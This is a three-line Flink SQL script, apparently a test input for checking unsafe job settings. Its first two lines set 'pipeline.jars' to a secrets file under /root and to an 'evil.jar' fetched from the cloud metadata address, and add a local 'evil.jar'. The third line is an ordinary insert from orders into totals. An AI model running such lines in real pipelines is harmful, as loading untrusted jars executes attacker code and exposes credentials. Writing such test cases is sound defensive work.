SET 'pipeline.jars' = 'file:///root/.env;http://169.254.169.254/evil.jar';
ADD JAR 'file:///root/evil.jar';
INSERT INTO totals SELECT `at`, status, amount FROM orders;
